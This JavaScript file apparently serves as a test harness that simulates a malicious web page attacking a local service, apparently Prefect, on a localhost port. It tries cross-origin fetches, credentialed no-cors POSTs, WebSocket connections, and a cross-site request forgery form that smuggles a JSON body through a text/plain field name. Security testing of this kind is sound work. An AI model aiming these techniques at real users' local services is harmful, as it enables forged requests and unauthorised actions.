/**
 * What a page of a stranger tries on one port of this machine; a script of that page.
 *
 * @param {{ port: number, reads: string[], writes: { path: string, body: object }[] }} input
 * @returns {Promise<{ got: string[], made: number }>} what of the answers the page could read or
 *   which channels opened, and how many requests left the page
 */
globalThis.attackPort = async (input) => {
  /** @type {string[]} */
  const got = [];
  let made = 0;
  const origin = `http://127.0.0.1:${input.port}`;
  const inTime = () => AbortSignal.timeout(8_000);
  const tryFetch = async (path, init) => {
    made += 1;
    try {
      const answer = await fetch(`${origin}${path}`, { ...init, signal: inTime() });
      if (answer.type !== "opaque") got.push(`${init.method ?? "GET"} ${path}: ${answer.status}`);
    } catch {
      // Refused, or not to be read.
    }
  };
  const trySocket = (path) =>
    new Promise((resolve) => {
      made += 1;
      const socket = new WebSocket(`${origin.replace("http", "ws")}${path}`, ["prefect"]);
      const timer = setTimeout(resolve, 8_000);
      socket.onopen = () => got.push(`websocket ${path}`);
      socket.onclose = () => {
        clearTimeout(timer);
        resolve();
      };
    });
  const submit = (path, body) => {
    made += 1;
    const frame = document.createElement("iframe");
    frame.name = `frame-${made}`;
    const form = document.createElement("form");
    Object.assign(form, { method: "POST", enctype: "text/plain", target: frame.name });
    form.action = `${origin}${path}`;
    const field = document.createElement("input");
    // Read as text, this is JSON: {…,"x":"="}
    field.name = `${JSON.stringify(body).slice(0, -1)},"x":"`;
    field.value = '"}';
    form.append(field);
    document.body.append(frame, form);
    form.submit();
    return new Promise((resolve) => {
      frame.onload = () => resolve();
      setTimeout(resolve, 4_000);
    });
  };
  const json = { "content-type": "application/json" };
  await Promise.all([
    ...input.reads.map((path) => tryFetch(path, {})),
    ...input.writes.flatMap(({ path, body }) => [
      tryFetch(path, { method: "POST", headers: json, body: JSON.stringify(body) }),
      tryFetch(path, {
        ...{ method: "POST", mode: "no-cors", credentials: "include" },
        body: JSON.stringify(body),
      }),
      submit(path, body),
    ]),
    trySocket("/api/events/in"),
    trySocket("/api/events/out"),
  ]);
  return { got, made };
};
